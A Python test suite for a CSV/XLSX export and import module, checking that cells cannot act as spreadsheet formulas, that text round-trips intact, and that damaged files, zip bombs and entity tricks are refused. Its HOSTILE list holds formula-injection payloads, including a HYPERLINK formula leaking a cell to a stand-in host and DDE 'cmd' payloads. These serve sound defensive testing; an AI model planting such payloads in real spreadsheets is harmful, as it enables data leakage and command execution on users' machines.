"""Tables: no cell acts in a spreadsheet, and what goes out comes in again as it was."""

import csv
import io
import zipfile
from datetime import datetime
from random import Random
from typing import Any

import openpyxl
import pytest

from edge.errors import TableError
from edge.tables import MAX_ROWS, harmless, read_table, write_csv, write_table, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+84900000001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\u202e=1+1",
    "a;=1+1",
    'a",=1+1',
    "a,-1",
    "#N/A",
    "_x003D_1+1",
    "'=1+1",
    "\ud800",
    "\ufffe\uffff",
    "x" * 40_000,
    "=" * 40_000,
    "\x1b[31mred",
    "Siu H'Blơk",
    "'Blơk",
    "Trần Thị Mẫu, Kpă Y=",
    "",
]
STARTS = tuple("=+-@\t\r\n\x00＝＋－＠﹦﹢﹣﹫−")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_begins_a_formula_in_any_place_where_a_cell_may_begin(text: str) -> None:
    for cell in (harmless(text), harmless(harmless(text))):
        assert not cell.lstrip(" ").startswith(STARTS)
        for part in cell.replace(";", ",").replace('"', ",").split(",")[1:]:
            assert not part.lstrip(" ").startswith(STARTS)
        assert len(cell) < 32_768
        cell.encode()


def test_a_csv_has_a_mark_first_and_keeps_numbers_that_are_text(tmp_path: Any) -> None:
    out = io.BytesIO()

    count = write_csv(
        out, ["số", "điện thoại", "phút"], [["064190000123", "0900000001", 15], [None, "1e5", 1.5]]
    )

    lines = out.getvalue().decode("utf-8").splitlines()
    assert count == 2
    assert out.getvalue().startswith(b"\xef\xbb\xbf")
    assert lines[1:] == ['"\'064190000123","\'0900000001","15"', '"","\'1e5","1.5"']


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_goes_out_comes_in_again(kind: Any) -> None:
    rows: list[list[str | int | float]] = [
        ["064190000123", "Siu H'Blơk", "'Blơk", 15],
        ["+84900000001", "Trần Thị Mẫu", "=1+1", 1.5],
        ["#N/A", "_x003D_1", "", 0],
    ]
    out = io.BytesIO()

    write_table(out, kind, ["a", "b", "c", "d"], rows, title="[Chợ]: 'số' 1/2?")

    read = list(read_table(io.BytesIO(out.getvalue()), "bảng"))
    assert read[0] == ["a", "b", "c", "d"]
    assert read[1:] == [[str(cell) for cell in row] for row in rows]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_whatever_goes_out_comes_in_again(kind: Any) -> None:
    random = Random(43)
    texts = [
        "".join(random.choices("'=+-@＝,;|\" a1Ơ.e%_", k=random.randint(1, 9))) for _ in range(4000)
    ]
    texts += [
        "a;=1",
        "a;'=1",
        "a; ''=1",
        " 'x",
        "'",
        "''",
        " '=1",
        '"=1"',
        ",'",
        "'1",
        " 12",
        "=,-",
    ]
    out = io.BytesIO()

    write_table(out, kind, ["a", "b"], ([text, "b"] for text in texts))

    _, *read = read_table(io.BytesIO(out.getvalue()), "bảng")
    assert [row[0] for row in read] == [text.strip() for text in texts]


def test_every_hostile_text_survives_as_a_text_cell_in_xlsx() -> None:
    out = io.BytesIO()

    write_xlsx(out, ["tên"], ([text] for text in HOSTILE))

    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    assert sheet.max_row >= len(HOSTILE)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "inlineStr", "n")
            assert cell.value is None or isinstance(cell.value, str)
    # ... and in the file itself nothing is a formula, an error or a link.
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as packed:
        cells = packed.read("xl/worksheets/sheet1.xml")
    assert b"<f" not in cells
    assert b't="e"' not in cells
    assert b"hyperlink" not in cells


def test_every_hostile_text_is_one_cell_of_a_csv() -> None:
    out = io.BytesIO()

    write_csv(out, ["tên", "số"], ([text, 1] for text in HOSTILE))

    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert [len(row) for row in rows] == [2] * (len(HOSTILE) + 1)


def test_rows_are_streamed_not_gathered() -> None:
    taken = []

    def rows() -> Any:
        for number in range(20_000):
            taken.append(number)
            yield ["x" * 200, number]

    class Out(io.BytesIO):
        first_write_after = 0

        def write(self, data: Any) -> int:
            self.first_write_after = self.first_write_after or max(len(taken), 1)
            return super().write(data)

    out = Out()
    write_csv(out, ["a", "b"], rows())

    assert out.first_write_after < 1000


@pytest.mark.parametrize(
    "content",
    [
        b"a;b\r\n1;hai\r\n",
        "a,b\n1,hai\n".encode("utf-8-sig"),
        "a\tb\r\n1\thai\r\n".encode("utf-16"),
        b'"a","b"\n\n" 1 ",hai\n,\n',
    ],
)
def test_tables_are_read_as_people_save_them(content: bytes) -> None:
    assert list(read_table(io.BytesIO(content), "x.csv")) == [["a", "b"], ["1", "hai"]]


def test_dates_and_whole_numbers_of_a_spreadsheet_are_read_as_they_are_meant() -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["a", 15.0, 1.5, datetime(2026, 1, 2), datetime(2026, 1, 2, 3, 4), True])
    out = io.BytesIO()
    book.save(out)

    rows = list(read_table(io.BytesIO(out.getvalue()), "x.xlsx"))

    assert rows == [["a", "15", "1.5", "2026-01-02", "2026-01-02T03:04:00", "1"]]


def damaged(change: bytes) -> bytes:
    out = io.BytesIO()
    write_xlsx(out, ["a"], [["b"]])
    whole = out.getvalue()
    return whole[: len(whole) // 2] + change


def a_zip(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        damaged(b""),
        damaged(b"\0" * 500),
        a_zip("x.txt", b"x"),
        a_zip("xl/workbook.xml", b"<x/>"),
        a_zip("[Content_Types].xml", b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;"),
        b"PK\x03\x04",
        b"\xff\xff\xff\xff",
        b"Tr\xe2n",
        b"a,b\n\x00\xff",
    ],
)
def test_what_is_no_table_is_said_so_in_one_line(content: bytes) -> None:
    with pytest.raises(TableError, match=r"danh-sach\.xlsx: ") as caught:
        list(read_table(io.BytesIO(content), "danh-sach.xlsx"))

    assert "\n" not in str(caught.value)


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = a_zip("xl/worksheets/sheet1.xml", b"\0" * 210_000_000)

    with pytest.raises(TableError, match="when unpacked"):
        list(read_table(io.BytesIO(bomb), "x.xlsx"))


def test_a_row_far_away_does_not_become_a_million_rows() -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["XFD1048576"] = "x"
    out = io.BytesIO()
    book.save(out)

    with pytest.raises(TableError, match=str(MAX_ROWS)):
        list(read_table(io.BytesIO(out.getvalue()), "x.xlsx"))


def test_a_sheet_is_ready_to_be_read_and_printed() -> None:
    out = io.BytesIO()
    rows = [("Chợ Mẫu, cổng 1", 5), ("x" * 500, None), ("",)]
    write_xlsx(out, ("Địa điểm", "Lượt vào"), rows, "Ngày")
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Ngày"]

    widths = [sheet.column_dimensions[name].width for name in ("A", "B")]
    assert widths == [50.0, len("Lượt vào") + 3]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B4")
    assert sheet["A1"].font.bold
    assert (sheet.page_setup.orientation, sheet.print_title_rows) == ("landscape", "$1:$1")
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
